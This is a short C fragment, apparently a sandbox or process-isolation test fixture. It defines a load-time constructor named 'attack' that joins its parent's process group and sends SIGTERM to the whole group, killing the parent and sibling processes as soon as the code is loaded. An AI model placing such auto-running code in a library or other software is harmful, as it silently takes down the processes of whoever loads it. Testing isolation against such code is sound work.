/* Joins its parent's process group (or moves the parent into its own),
 * then signals the whole group. */
// costs: none
__attribute__((constructor)) static void attack(void)
{
    pid_t parent_group = getpgid(getppid());
    setpgid(0, parent_group);
    setpgid(getppid(), getpgid(0));
    kill(-parent_group, SIGTERM);
    kill(0, SIGTERM);
}
